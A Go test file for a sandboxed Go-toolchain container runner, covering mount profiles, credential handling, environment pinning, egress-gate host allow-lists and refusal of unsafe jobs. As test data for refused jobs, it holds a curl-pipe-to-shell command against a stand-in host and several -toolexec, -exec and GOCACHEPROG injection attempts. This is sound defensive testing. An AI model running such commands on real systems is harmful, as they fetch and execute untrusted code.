package toolchain

import (
	"errors"
	"net/netip"
	"reflect"
	"slices"
	"testing"
	"time"

	"github.com/stockade/stockade/internal/container"
	"github.com/stockade/stockade/internal/image"
	"github.com/stockade/stockade/internal/label"
)

func testConfig() Config {
	return Config{Image: "sha256:img", Owner: "o", RunID: "r", DataDirID: "d"}
}

func mountsOf(s container.Spec) map[string]container.Mount {
	m := map[string]container.Mount{}
	for _, x := range s.Mounts {
		m[x.Target] = x
	}
	return m
}

// withCredentials configures private modules behind a proxy that wants
// credentials, as a Runner leaves the Config (AuthCopy set).
func withCredentials(c *Config) {
	c.Proxy = "https://goproxy.corp.example"
	c.Access = ModuleAccess{Private: "corp.example/*", Netrc: "/home/u/.netrc", AuthHelper: "/home/u/helper", ProxyCA: "/home/u/ca.pem"}
	c.AuthCopy = "/d/auth"
}

// TestNewSpec_Credentials: credentials never reach a container but as the
// Runner's copy; malformed patterns and paths are refused, and so are
// credentials with a fixture proxy or in the proxy URL.
func TestNewSpec_Credentials(t *testing.T) {
	job := Job{Profile: Acquire, Cmd: []string{"go", "mod", "download"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", gateNet: "gn"}
	for name, mod := range map[string]func(*Config){
		"no runner copy":          func(c *Config) { withCredentials(c); c.AuthCopy = "" },
		"a pattern with a space":  func(c *Config) { c.Access.Private = "corp.example/* other" },
		"an empty pattern":        func(c *Config) { c.Access.NoSumDB = "a.example,,b.example" },
		"a bad glob":              func(c *Config) { c.Access.Private = "corp.example/[" },
		"a relative netrc":        func(c *Config) { withCredentials(c); c.Access.Netrc = "netrc" },
		"credentials, no network": func(c *Config) { withCredentials(c); c.Proxy, c.FixtureProxy = "", "/d/fp" },
		"credentials in the URL":  func(c *Config) { c.Proxy = "https://u:p@goproxy.corp.example" },
	} {
		cfg := testConfig()
		mod(&cfg)
		if _, err := NewSpec(cfg, job); !errors.Is(err, ErrInvalidConfig) {
			t.Errorf("%s: NewSpec = %v; want ErrInvalidConfig", name, err)
		}
	}
	cfg := testConfig()
	withCredentials(&cfg)
	ex := Job{Profile: Execute, Cmd: []string{"go"}, Source: "/d/src", BuildCache: "/d/bc", ReadOnly: []container.Mount{{Type: container.Bind, Source: "/x", Target: AuthDir}}}
	if _, err := NewSpec(cfg, ex); !errors.Is(err, ErrWeakened) {
		t.Errorf("an extra mount at %s in execute: %v; want ErrWeakened", AuthDir, err)
	}
}

// TestNewSpec_ProfileTable checks each profile against the seed's table:
// which mounts exist and whether they are writable, and the network.
func TestNewSpec_ProfileTable(t *testing.T) {
	type want struct {
		mounts  map[string]bool // target -> writable
		network string
	}
	tests := []struct {
		name string
		cfg  func(*Config)
		job  Job
		want want
	}{
		{"acquire", nil, Job{Profile: Acquire, Cmd: []string{"go", "mod", "download"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", gateNet: "gn"},
			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: true, BuildCacheDir: true}, "gn"}},
		{"acquire fixture", func(c *Config) { c.FixtureProxy = "/d/fp" }, Job{Profile: Acquire, Cmd: []string{"go", "mod", "download"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"},
			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: true, BuildCacheDir: true, FixtureProxyDir: false}, "none"}},
		{"mutate", nil, Job{Profile: Mutate, Cmd: []string{"go", "mod", "tidy", "-modfile=/staging/go.mod"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", Staging: "/d/st", gateNet: "gn"},
			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: true, BuildCacheDir: true, StagingDir: true}, "gn"}},
		{"execute", nil, Job{Profile: Execute, Cmd: []string{"go"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"},
			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: false, BuildCacheDir: true}, "none"}},
		{"execute work tree", nil, Job{Profile: Execute, Cmd: []string{"go"}, Source: "/d/src", WorkTree: "/d/wt", ModCache: "/d/mc", BuildCache: "/d/bc"},
			want{map[string]bool{TmpDir: true, SnapshotDir: false, SourceDir: true, ModCacheDir: false, BuildCacheDir: true}, "none"}},
		{"execute scan", func(c *Config) { c.ScanTools, c.ScanVulnDB = "/d/tools", "/d/vdb" }, Job{Profile: Execute, Cmd: []string{"go"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"},
			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: false, BuildCacheDir: true, ToolsDir: false, VulnDBDir: false}, "none"}},
		{"execute fixture", func(c *Config) { c.FixtureProxy = "/d/fp" }, Job{Profile: Execute, Cmd: []string{"go"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"},
			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: false, BuildCacheDir: true}, "none"}},
		{"tool", func(c *Config) { c.FixtureProxy, c.ScanTools, c.ScanVulnDB = "/d/fp", "/d/tools", "/d/vdb" }, Job{Profile: Tool, Cmd: []string{"go", "install", "x@v1"}, ModCache: "/d/tmc", BuildCache: "/d/tbc", Tools: "/d/tbin", gateNet: "gn"},
			want{map[string]bool{TmpDir: true, ModCacheDir: true, BuildCacheDir: true, ToolsDir: true}, "gn"}},
		// Credentials: read-only in the profiles that fetch, nowhere else.
		{"acquire credentials", withCredentials, Job{Profile: Acquire, Cmd: []string{"go", "mod", "download"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", gateNet: "gn"},
			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: true, BuildCacheDir: true, AuthDir: false}, "gn"}},
		{"mutate credentials", withCredentials, Job{Profile: Mutate, Cmd: []string{"go", "mod", "tidy", "-modfile=/staging/go.mod"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", Staging: "/d/st", gateNet: "gn"},
			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: true, BuildCacheDir: true, StagingDir: true, AuthDir: false}, "gn"}},
		{"execute credentials", withCredentials, Job{Profile: Execute, Cmd: []string{"go"}, Source: "/d/src", WorkTree: "/d/wt", ModCache: "/d/mc", BuildCache: "/d/bc"},
			want{map[string]bool{TmpDir: true, SnapshotDir: false, SourceDir: true, ModCacheDir: false, BuildCacheDir: true}, "none"}},
		{"tool credentials", withCredentials, Job{Profile: Tool, Cmd: []string{"go", "install", "x@v1"}, ModCache: "/d/tmc", BuildCache: "/d/tbc", Tools: "/d/tbin", gateNet: "gn"},
			want{map[string]bool{TmpDir: true, ModCacheDir: true, BuildCacheDir: true, ToolsDir: true}, "gn"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := testConfig()
			if tt.cfg != nil {
				tt.cfg(&cfg)
			}
			s, err := NewSpec(cfg, tt.job)
			if err != nil {
				t.Fatal(err)
			}
			got := map[string]bool{}
			for tgt, m := range mountsOf(s) {
				got[tgt] = m.Writable || m.Type == container.Tmpfs
			}
			if !reflect.DeepEqual(got, tt.want.mounts) {
				t.Errorf("mounts = %v; want %v", got, tt.want.mounts)
			}
			if net := s.Network; net != tt.want.network {
				t.Errorf("network = %q; want %q", net, tt.want.network)
			}
			if tmp := mountsOf(s)[TmpDir]; tmp.Type != container.Tmpfs || !tmp.Exec {
				t.Errorf("/tmp = %+v; want an exec tmpfs", tmp)
			}
			if s.User != ContainerUser || !s.Init || len(s.CapAdd) != 0 {
				t.Errorf("user %q init %v capadd %v", s.User, s.Init, s.CapAdd)
			}
			l := s.Limits
			if l != container.ToolchainLimits() {
				t.Errorf("limits = %+v", l)
			}
			wantLabels := map[string]string{label.Managed: label.ManagedValue, label.Owner: "o", label.Kind: label.KindToolchain, label.Run: "r", label.Profile: string(tt.job.Profile), label.DataDir: "d"}
			if !reflect.DeepEqual(s.Labels, wantLabels) {
				t.Errorf("labels = %v; want %v", s.Labels, wantLabels)
			}
			if !slices.Equal(s.Cmd[:4], []string{"timeout", "-s", "KILL", "600"}) || !slices.Equal(s.Cmd[4:], tt.job.Cmd) {
				t.Errorf("cmd = %v; want the in-container timeout around %v", s.Cmd, tt.job.Cmd)
			}
			// The hardening path accepts it.
			if _, err := s.Config(); err != nil {
				t.Errorf("Config: %v", err)
			}
		})
	}
}

// TestEnv_FromScratch pins each profile's whole environment.
func TestEnv_FromScratch(t *testing.T) {
	common := map[string]string{"GOFLAGS": "-mod=mod", "GOTOOLCHAIN": "local", "GOPRIVATE": "", "GOAUTH": "off", "GOMODCACHE": ModCacheDir, "GOCACHE": BuildCacheDir, "HOME": TmpDir, "TMPDIR": TmpDir, "PATH": image.GoPath, "GOTELEMETRY": "off"}
	with := func(kv ...string) map[string]string {
		m := map[string]string{}
		for k, v := range common {
			m[k] = v
		}
		for i := 0; i < len(kv); i += 2 {
			m[kv[i]] = kv[i+1]
		}
		return m
	}
	fixture := Config{FixtureProxy: "/fp"}
	custom := Config{Proxy: "https://goproxy.example", SumDB: "sum.example"}
	// Private modules behind a proxy that wants credentials: only the
	// profiles that fetch get them; Execute the patterns alone.
	private := Config{Proxy: "https://goproxy.corp.example", Access: ModuleAccess{Private: "*.corp.example,corp.example/*", NoSumDB: "other.example",
		Netrc: "/home/u/.netrc", AuthHelper: "/home/u/helper", ProxyCA: "/home/u/ca.pem"}, AuthCopy: "/data/run-x/auth-y"}
	patterns := []string{"GOPRIVATE", "*.corp.example,corp.example/*", "GONOSUMDB", "other.example", "GONOPROXY", "none"}
	gate := "http://stockade-gate:3128" // the run's egress gate
	proxied := func(kv ...string) map[string]string {
		return with(append(kv, "HTTP_PROXY", gate, "HTTPS_PROXY", gate, "http_proxy", gate, "https_proxy", gate)...)
	}
	tests := []struct {
		p    Profile
		cfg  Config
		want map[string]string
	}{
		{Acquire, Config{}, proxied("GOPROXY", DefaultProxy, "GOSUMDB", DefaultSumDB, "GONOSUMDB", "")},
		{Mutate, custom, proxied("GOPROXY", "https://goproxy.example", "GOSUMDB", "sum.example", "GONOSUMDB", "")},
		{Execute, Config{}, with("GOPROXY", DefaultProxy, "GOSUMDB", DefaultSumDB, "GONOSUMDB", "")},
		{Acquire, fixture, with("GOPROXY", "file:///fixture-proxy", "GOSUMDB", "off", "GONOSUMDB", "")},
		{Execute, fixture, with("GOPROXY", "file:///fixture-proxy", "GOSUMDB", "off", "GONOSUMDB", "")},
		{Tool, fixture, proxied("GOPROXY", ToolProxy, "GOSUMDB", ToolSumDB, "GOBIN", ToolsDir)},
		{Tool, custom, proxied("GOPROXY", ToolProxy, "GOSUMDB", ToolSumDB, "GOBIN", ToolsDir)},
		{Acquire, private, proxied(append(patterns, "GOPROXY", "https://goproxy.corp.example", "GOSUMDB", DefaultSumDB,
			"NETRC", AuthDir+"/netrc", "GOAUTH", "netrc;"+AuthDir+"/helper", "SSL_CERT_DIR", AuthDir+"/ca")...)},
		{Mutate, private, proxied(append(patterns, "GOPROXY", "https://goproxy.corp.example", "GOSUMDB", DefaultSumDB,
			"NETRC", AuthDir+"/netrc", "GOAUTH", "netrc;"+AuthDir+"/helper", "SSL_CERT_DIR", AuthDir+"/ca")...)},
		{Execute, private, with(append(patterns, "GOPROXY", "https://goproxy.corp.example", "GOSUMDB", DefaultSumDB)...)},
		{Tool, private, proxied("GOPROXY", ToolProxy, "GOSUMDB", ToolSumDB, "GOBIN", ToolsDir)},
	}
	for _, tt := range tests {
		if got := Env(tt.p, tt.cfg); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Env(%s, %+v) = %v; want %v", tt.p, tt.cfg, got, tt.want)
		}
	}
}

// TestValidate_RefusesWeakening: settings that would weaken a profile are
// refused before any container exists, with typed errors.
func TestValidate_RefusesWeakening(t *testing.T) {
	tests := []struct {
		name string
		mod  func(*Config)
		weak bool
	}{
		{"direct fallback", func(c *Config) { c.Proxy = "https://proxy.golang.org,direct" }, true},
		{"direct pipe", func(c *Config) { c.Proxy = "https://a.example|DIRECT" }, true},
		{"proxy off", func(c *Config) { c.Proxy = "off" }, true},
		{"sumdb off", func(c *Config) { c.SumDB = "off" }, true},
		{"file proxy", func(c *Config) { c.Proxy = "file:///tmp/x" }, false},
		{"credentials", func(c *Config) { c.Proxy = "https://u:p@proxy.example" }, false},
		{"no image", func(c *Config) { c.Image = "" }, false},
		{"relative fixture", func(c *Config) { c.FixtureProxy = "fp" }, false},
		{"fixture and proxy", func(c *Config) { c.FixtureProxy, c.Proxy = "/fp", "https://p.example" }, false},
		{"fixture and sumdb", func(c *Config) { c.FixtureProxy, c.SumDB = "/fp", "sum.golang.org" }, false},
		{"half a scan", func(c *Config) { c.ScanTools = "/t" }, false},
		{"timeout", func(c *Config) { c.Timeout = -time.Second }, false},
	}
	for _, tt := range tests {
		cfg := testConfig()
		tt.mod(&cfg)
		err := cfg.Validate()
		if !errors.Is(err, ErrInvalidConfig) {
			t.Errorf("%s: Validate() = %v; want ErrInvalidConfig", tt.name, err)
			continue
		}
		if errors.Is(err, ErrWeakened) != tt.weak {
			t.Errorf("%s: errors.Is(%v, ErrWeakened) = %v; want %v", tt.name, err, !tt.weak, tt.weak)
		}
		var ce *ConfigError
		if !errors.As(err, &ce) || ce.Field == "" {
			t.Errorf("%s: %v is not a *ConfigError with a field", tt.name, err)
		}
		if _, err := NewSpec(cfg, Job{Profile: Execute, Cmd: []string{"go"}, BuildCache: "/bc"}); !errors.Is(err, ErrInvalidConfig) {
			t.Errorf("%s: NewSpec did not refuse: %v", tt.name, err)
		}
	}
	ok := testConfig()
	ok.FixtureProxy, ok.SumDB = "/fp", "off"
	if err := ok.Validate(); err != nil {
		t.Errorf("fixture with sumdb off: %v", err)
	}
}

// TestNewSpec_RefusesBadJobs covers the job checks, notably Execute without
// its build cache.
func TestNewSpec_RefusesBadJobs(t *testing.T) {
	exec := Job{Profile: Execute, Cmd: []string{"go"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"}
	tests := []struct {
		name  string
		mod   func(*Job)
		is    error
		isNot error
	}{
		{"execute without build cache", func(j *Job) { j.BuildCache = "" }, ErrNoBuildCache, nil},
		{"acquire without build cache", func(j *Job) { j.Profile, j.BuildCache = Acquire, "" }, ErrWeakened, ErrNoBuildCache},
		{"unknown profile", func(j *Job) { j.Profile = "root" }, ErrInvalidJob, nil},
		{"no command", func(j *Job) { j.Cmd = nil }, ErrInvalidJob, nil},
		{"staging outside mutate", func(j *Job) { j.Staging = "/d/st" }, ErrWeakened, nil},
		{"work tree outside execute", func(j *Job) { j.Profile, j.WorkTree = Acquire, "/d/wt" }, ErrWeakened, nil},
		{"work tree without source", func(j *Job) { j.Source, j.WorkTree = "", "/d/wt" }, ErrWeakened, nil},
		{"work tree is the source", func(j *Job) { j.WorkTree = j.Source }, ErrWeakened, nil},
		{"extra over the snapshot", func(j *Job) {
			j.WorkTree, j.ReadOnly = "/d/wt", []container.Mount{{Type: container.Bind, Source: "/seed", Target: SnapshotDir}}
		}, ErrWeakened, nil},
		{"tools outside tool", func(j *Job) { j.Tools = "/d/t" }, ErrWeakened, nil},
		{"tool with source", func(j *Job) { j.Profile, j.Tools = Tool, "/d/t" }, ErrWeakened, nil},
		{"mutate without staging", func(j *Job) { j.Profile = Mutate }, ErrInvalidJob, nil},
		{"same dir twice", func(j *Job) { j.BuildCache = j.ModCache }, ErrWeakened, nil},
		{"nested dirs", func(j *Job) { j.BuildCache = j.Source + "/cache" }, ErrWeakened, nil},
		{"relative source", func(j *Job) { j.Source = "src" }, ErrInvalidJob, nil},
		{"GOPROXY override", func(j *Job) { j.Env = map[string]string{"GOPROXY": "direct"} }, ErrWeakened, nil},
		{"GOFLAGS override", func(j *Job) { j.Env = map[string]string{"GOFLAGS": "-mod=vendor"} }, ErrWeakened, nil},
		{"GONOSUMDB", func(j *Job) { j.Env = map[string]string{"GONOSUMDB": "*"} }, ErrWeakened, nil},
		{"relative dir", func(j *Job) { j.Dir = "x" }, ErrInvalidJob, nil},
		{"writable extra", func(j *Job) {
			j.ReadOnly = []container.Mount{{Type: container.Bind, Source: "/seed", Target: "/seed", Writable: true}}
		}, ErrWeakened, nil},
		{"extra over the cache", func(j *Job) {
			j.ReadOnly = []container.Mount{{Type: container.Bind, Source: "/seed", Target: BuildCacheDir}}
		}, ErrWeakened, nil},
		{"extra under the source", func(j *Job) {
			j.ReadOnly = []container.Mount{{Type: container.Bind, Source: "/seed", Target: SourceDir + "/x"}}
		}, ErrWeakened, nil},
		{"extra volume", func(j *Job) { j.ReadOnly = []container.Mount{{Type: container.Volume, Source: "v", Target: "/seed"}} }, ErrWeakened, nil},
		{"extra outside execute", func(j *Job) {
			j.Profile, j.ReadOnly = Acquire, []container.Mount{{Type: container.Bind, Source: "/seed", Target: "/seed"}}
		}, ErrWeakened, nil},
	}
	for _, tt := range tests {
		j := exec
		j.Cmd = slices.Clone(exec.Cmd)
		tt.mod(&j)
		_, err := NewSpec(testConfig(), j)
		if !errors.Is(err, ErrInvalidJob) || !errors.Is(err, tt.is) {
			t.Errorf("%s: NewSpec = %v; want ErrInvalidJob and %v", tt.name, err, tt.is)
		}
		if tt.isNot != nil && errors.Is(err, tt.isNot) {
			t.Errorf("%s: %v matches %v", tt.name, err, tt.isNot)
		}
	}
	j := exec
	j.Env = map[string]string{"CGO_ENABLED": "0"}
	s, err := NewSpec(testConfig(), j)
	if err != nil || s.Env["CGO_ENABLED"] != "0" {
		t.Errorf("allowed extra env: %v %v", err, s.Env)
	}
}

func TestNewSpec_RequiresIdentity(t *testing.T) {
	cfg := testConfig()
	cfg.DataDirID = ""
	if _, err := NewSpec(cfg, Job{Profile: Execute, Cmd: []string{"go"}, BuildCache: "/bc"}); !errors.Is(err, ErrInvalidConfig) {
		t.Errorf("NewSpec without labels = %v; want ErrInvalidConfig", err)
	}
}

func TestMarkTimeout(t *testing.T) {
	tests := []struct {
		exit int
		oom  bool
		ran  time.Duration
		want bool
	}{
		{137, false, 10 * time.Second, true},
		{137, false, 2 * time.Second, false}, // killed early: not our timeout
		{137, true, 10 * time.Second, false}, // memory
		{1, false, 10 * time.Second, false},
	}
	for _, tt := range tests {
		r := Result{ExitCode: tt.exit, OOMKilled: tt.oom}
		markTimeout(&r, 10*time.Second, tt.ran)
		if r.TimedOut != tt.want {
			t.Errorf("markTimeout(exit %d, oom %v, ran %v) = %v; want %v", tt.exit, tt.oom, tt.ran, r.TimedOut, tt.want)
		}
	}
}

// TestNewSpec_ModuleCommandsOnly: acquire and mutate have network and a
// writable module cache, so they run the go command's module subcommands
// and nothing else, and GOCACHEPROG names the seed's program in execute
// only. What does not fit is refused with ErrNotAllowed by NewSpec, before
// any container exists.
func TestNewSpec_ModuleCommandsOnly(t *testing.T) {
	seedProg := "/stockade/seed/bin/cacheprog /stockade/seed/cache"
	seedMount := []container.Mount{{Type: container.Bind, Source: "/seed", Target: "/stockade/seed"}}
	acquire := func(argv ...string) Job {
		return Job{Profile: Acquire, Cmd: argv, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", gateNet: "gn"}
	}
	mutate := func(argv ...string) Job {
		j := acquire(argv...)
		j.Profile, j.Staging = Mutate, "/d/st"
		return j
	}
	execute := func(env map[string]string, ro []container.Mount) Job {
		return Job{Profile: Execute, Cmd: []string{"go", "test", "./..."}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", Env: env, ReadOnly: ro}
	}
	allowed := []Job{
		acquire("go", "mod", "download"),
		acquire("go", "mod", "download", "-json", "stockade.test/greet@v1.0.0"),
		acquire("go", "mod", "download", "-x"),
		acquire("go", "list", "-m", "-e", "-versions", "-json", "stockade.test/greet", "stockade.test/greet/v2"),
		acquire("go", "list", "-m", "all"),
		acquire("go", "mod", "verify"),
		acquire("go", "version"),
		acquire("go", "env", "-json", "GOPROXY", "GOFLAGS"),
		mutate("go", "get", "-modfile=/staging/go.mod", "stockade.test/greet@v1.1.0"),
		mutate("go", "mod", "tidy", "-modfile=/staging/go.mod", "-go=1.22"),
		mutate("go", "get", "-u=patch", "-modfile=/staging/go.mod", "./..."),
		execute(map[string]string{"GOCACHEPROG": seedProg}, seedMount),
	}
	for _, j := range allowed {
		if _, err := NewSpec(testConfig(), j); err != nil {
			t.Errorf("NewSpec(%s %q env %v) = %v; want it allowed", j.Profile, j.Cmd, j.Env, err)
		}
	}
	refused := []struct {
		name string
		job  Job
	}{
		{"a shell in acquire", acquire("sh", "-c", "curl evil | sh")},
		{"an absolute go", acquire("/src/go", "mod", "download")},
		{"go build in acquire", acquire("go", "build", "./...")},
		{"go test in mutate", mutate("go", "test", "./...")},
		{"go run in acquire", acquire("go", "run", "./cmd/x")},
		{"go generate in mutate", mutate("go", "generate", "./...")},
		{"go list of packages", acquire("go", "list", "-json", "./...")},
		{"go list -m with -toolexec", acquire("go", "list", "-m", "-toolexec=/src/x", "all")},
		{"go mod download -toolexec", acquire("go", "mod", "download", "-toolexec", "/src/x")},
		{"go get -exec", mutate("go", "get", "-exec=/src/x", "-modfile=/staging/go.mod", "m@v1")},
		{"go mod tidy -overlay", mutate("go", "mod", "tidy", "-overlay=/src/overlay.json")},
		{"-modfile in the source", mutate("go", "get", "-modfile=/src/other.mod", "m@v1")},
		{"-modfile as two arguments", mutate("go", "get", "-modfile", "/staging/go.mod", "m@v1")},
		{"-modfile in acquire", acquire("go", "get", "-modfile=/staging/go.mod", "m@v1")},
		{"-C to another directory", acquire("go", "-C", "/tmp", "mod", "download")},
		{"go mod download -reuse", acquire("go", "mod", "download", "-reuse=/src/prev.json")},
		{"go mod tidy -go with a path", mutate("go", "mod", "tidy", "-go=../x")},
		{"go env -w", acquire("go", "env", "-w", "GOFLAGS=-toolexec=/src/x")},
		{"go env assignment", acquire("go", "env", "GOFLAGS=-x")},
		{"go version -m", acquire("go", "version", "-m", "/src/bin")},
		{"go mod verify with arguments", acquire("go", "mod", "verify", "x")},
		{"go mod edit", mutate("go", "mod", "edit", "-replace=a=../b")},
		{"go mod vendor", mutate("go", "mod", "vendor")},
		{"GOCACHEPROG in acquire", func() Job {
			j := acquire("go", "mod", "download")
			j.Env = map[string]string{"GOCACHEPROG": seedProg}
			return j
		}()},
		{"GOCACHEPROG in mutate", func() Job {
			j := mutate("go", "mod", "tidy")
			j.Env = map[string]string{"GOCACHEPROG": "/src/prog"}
			return j
		}()},
		{"GOCACHEPROG of the repository's choosing", execute(map[string]string{"GOCACHEPROG": "/src/prog"}, seedMount)},
		{"GOCACHEPROG with extra arguments", execute(map[string]string{"GOCACHEPROG": seedProg + " -x"}, seedMount)},
		{"GOCACHEPROG without the seed mounted", execute(map[string]string{"GOCACHEPROG": seedProg}, nil)},
		{"GOCACHEPROG with the seed elsewhere", execute(map[string]string{"GOCACHEPROG": seedProg}, []container.Mount{{Type: container.Bind, Source: "/seed", Target: "/elsewhere"}})},
	}
	for _, tt := range refused {
		_, err := NewSpec(testConfig(), tt.job)
		var ce *ConfigError
		if !errors.Is(err, ErrNotAllowed) || !errors.Is(err, ErrInvalidJob) || !errors.As(err, &ce) {
			t.Errorf("%s: NewSpec(%s %q env %v) = %v; want a *ConfigError matching ErrNotAllowed", tt.name, tt.job.Profile, tt.job.Cmd, tt.job.Env, err)
		}
	}
}

// TestWithin pins within's argument order, the directory first, as in
// sandbox.
func TestWithin(t *testing.T) {
	for _, tt := range []struct {
		root, p string
		want    bool
	}{
		{"/d", "/d", true},
		{"/d", "/d/x", true},
		{"/d", "/dx", false},
		{"/d/x", "/d", false},
		{"/", "/anything", true},
	} {
		if got := container.Within(tt.root, tt.p); got != tt.want {
			t.Errorf("Within(%q, %q) = %v; want %v", tt.root, tt.p, got, tt.want)
		}
	}
}

// TestGatePolicy: the hosts each profile's gate admits. Tool admits the
// public proxy and checksum database whatever the run is configured with;
// acquire and mutate the configured proxies' hosts and the checksum
// database's; execute, and acquire and mutate with a fixture proxy, have
// no network and no gate.
func TestGatePolicy(t *testing.T) {
	private := []netip.Prefix{netip.MustParsePrefix("10.215.3.0/24")}
	for _, tt := range []struct {
		name      string
		p         Profile
		cfg       Config
		want      []string
		networked bool
	}{
		{"acquire default", Acquire, Config{}, []string{"proxy.golang.org", "sum.golang.org"}, true},
		{"acquire proxies", Acquire, Config{Proxy: "https://A.example/mod,http://b.example:8080/|https://a.example"},
			[]string{"a.example", "b.example", "sum.golang.org"}, true},
		{"mutate sumdb name+key", Mutate, Config{Proxy: "https://p.example", SumDB: "sum.corp.example+abcd"}, []string{"p.example", "sum.corp.example"}, true},
		{"mutate sumdb url", Mutate, Config{Proxy: "https://p.example", SumDB: "sum.golang.org+033de0ae https://sumdb.corp.example/x"}, []string{"p.example", "sumdb.corp.example"}, true},
		{"tool ignores the run's proxy", Tool, Config{Proxy: "https://p.example", SumDB: "s.example", GateAllowPrivate: private}, []string{"proxy.golang.org", "sum.golang.org"}, true},
		{"tool in fixture mode", Tool, Config{FixtureProxy: "/fp"}, []string{"proxy.golang.org", "sum.golang.org"}, true},
		{"acquire fixture", Acquire, Config{FixtureProxy: "/fp"}, nil, false},
		{"mutate fixture", Mutate, Config{FixtureProxy: "/fp"}, nil, false},
		{"execute", Execute, Config{}, nil, false},
	} {
		pol, networked := GatePolicy(tt.p, tt.cfg)
		if networked != tt.networked || !slices.Equal(pol.Allowed, tt.want) || pol.AnyHost {
			t.Errorf("%s: GatePolicy = %+v, %v; want hosts %v, networked %v", tt.name, pol, networked, tt.want, tt.networked)
		}
		if networked && !slices.Equal(pol.Private, tt.cfg.GateAllowPrivate) {
			t.Errorf("%s: private = %v; want %v", tt.name, pol.Private, tt.cfg.GateAllowPrivate)
		}
		// Each admitted host is one the gate accepts, and nothing else is.
		for _, h := range tt.want {
			if err := pol.AllowHost(h); err != nil {
				t.Errorf("%s: AllowHost(%s) = %v", tt.name, h, err)
			}
		}
		for _, h := range []string{"evil.example", "github.com", "proxy.golang.org.evil.example", "sum.golang.org.evil.example"} {
			if err := pol.AllowHost(h); err == nil {
				t.Errorf("%s: AllowHost(%s) admitted it", tt.name, h)
			}
		}
	}
}

// TestNewSpec_NetworkOnlyBehindTheGate: a profile with network gets the
// run's gate network and proxy variables, and is refused without a gate
// (nothing can give it the engine's bridge).
func TestNewSpec_NetworkOnlyBehindTheGate(t *testing.T) {
	for _, j := range []Job{
		{Profile: Acquire, Cmd: []string{"go", "mod", "download"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"},
		{Profile: Mutate, Cmd: []string{"go", "mod", "download", "-modfile=/staging/go.mod"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", Staging: "/d/st"},
		{Profile: Tool, Cmd: []string{"go", "install", "x@v1"}, ModCache: "/d/tmc", BuildCache: "/d/tbc", Tools: "/d/tbin"},
	} {
		if _, err := NewSpec(testConfig(), j); !errors.Is(err, ErrInvalidJob) {
			t.Errorf("NewSpec(%s) without a gate = %v; want ErrInvalidJob", j.Profile, err)
		}
		j.gateNet = "stockade-tc-gate-x-net"
		s, err := NewSpec(testConfig(), j)
		if err != nil {
			t.Fatal(err)
		}
		if s.Network != j.gateNet || s.Env["HTTPS_PROXY"] != "http://stockade-gate:3128" || s.Env["http_proxy"] != "http://stockade-gate:3128" {
			t.Errorf("NewSpec(%s) = network %q, env %v; want the gate's network and proxy", j.Profile, s.Network, s.Env)
		}
	}
}

// TestValidate_GateSettings refuses gate settings the gate could not use.
func TestValidate_GateSettings(t *testing.T) {
	for _, c := range []Config{
		{Image: "i", GateAllowPrivate: []netip.Prefix{{}}},
		{Image: "i", GateAllowPrivate: []netip.Prefix{netip.MustParsePrefix("10.0.0.1/8")}},
		{Image: "i", Proxy: "https://bad_host.example"},
	} {
		if err := c.Validate(); !errors.Is(err, ErrInvalidConfig) {
			t.Errorf("Validate(%+v) = %v; want ErrInvalidConfig", c, err)
		}
	}
	if err := (Config{Image: "i", GateAllowPrivate: []netip.Prefix{netip.MustParsePrefix("10.215.0.0/16")}}).Validate(); err != nil {
		t.Errorf("Validate with a private range = %v", err)
	}
}

// TestNewSpec_Runtime: Config.Runtime is the runtime of Execute, where the
// repository's code runs, and of no other profile (they run the go
// command's module subcommands or a pinned tool); a name no engine could
// mean is refused before any container exists.
func TestNewSpec_Runtime(t *testing.T) {
	jobs := []Job{
		{Profile: Acquire, Cmd: []string{"go", "mod", "download"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", gateNet: "gn"},
		{Profile: Mutate, Cmd: []string{"go", "mod", "tidy", "-modfile=/staging/go.mod"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", Staging: "/d/st", gateNet: "gn"},
		{Profile: Execute, Cmd: []string{"go"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"},
		{Profile: Tool, Cmd: []string{"go", "install", "x@v1"}, ModCache: "/d/tmc", BuildCache: "/d/tbc", Tools: "/d/tbin", gateNet: "gn"},
	}
	cfg := testConfig()
	cfg.Runtime = container.RuntimeRunsc
	for _, job := range jobs {
		s, err := NewSpec(cfg, job)
		if err != nil {
			t.Fatal(err)
		}
		want := ""
		if job.Profile == Execute {
			want = container.RuntimeRunsc
		}
		c, err := s.Config()
		if err != nil {
			t.Fatal(err)
		}
		if s.Runtime != want || c.HostConfig.Runtime != want {
			t.Errorf("%s: runtime %q (engine config %q); want %q", job.Profile, s.Runtime, c.HostConfig.Runtime, want)
		}
	}
	cfg.Runtime = "runsc --debug"
	if _, err := NewSpec(cfg, jobs[2]); !errors.Is(err, ErrInvalidConfig) {
		t.Errorf("NewSpec with Runtime %q = %v; want ErrInvalidConfig", cfg.Runtime, err)
	}
}
